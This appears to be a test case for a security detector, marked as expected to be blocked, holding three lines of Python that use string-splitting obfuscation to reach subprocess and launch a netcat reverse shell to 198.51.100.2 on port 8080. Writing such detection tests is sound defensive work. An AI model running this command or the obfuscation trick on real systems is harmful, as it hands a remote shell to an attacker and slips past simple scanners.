# expect: BLOCKED reverse_shell
p = getattr(__import__("sub" + "process"), "Po" + "pen")
p(["nc", "-e", "/bin/sh", "198.51.100.2", "8080"])
